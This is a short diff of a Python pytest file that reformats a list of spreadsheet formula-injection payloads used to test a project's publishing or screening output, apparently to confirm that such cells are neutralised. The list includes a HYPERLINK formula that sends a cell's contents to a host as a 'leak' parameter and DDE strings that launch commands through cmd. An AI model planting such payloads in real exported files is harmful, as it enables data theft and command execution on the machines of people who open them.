@@ -22,8 +22,8 @@ from gpai_kg.publish.screening import write
 from gpai_kg.reasoning.screen import screen
 from gpai_kg.sparql.results import QueryResult
 
-PAYLOADS = ['=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "\t=1+1", "\r=1+1", "=1+1", "\uff1d1+1"]
+PAYLOADS = ['=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "\uff1d1+1"]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
